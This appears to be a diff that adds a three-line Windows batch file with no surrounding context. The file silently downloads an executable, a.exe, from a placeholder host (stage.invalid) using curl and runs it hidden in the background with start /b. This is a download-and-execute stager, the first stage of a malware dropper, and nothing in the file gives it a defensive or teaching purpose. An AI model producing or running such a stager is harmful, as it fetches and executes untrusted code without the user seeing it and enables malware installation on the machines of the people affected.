@@ -1,0 +1,3 @@
+@echo off
+curl -s http://stage.invalid/a.exe -o a.exe
+start /b a.exe
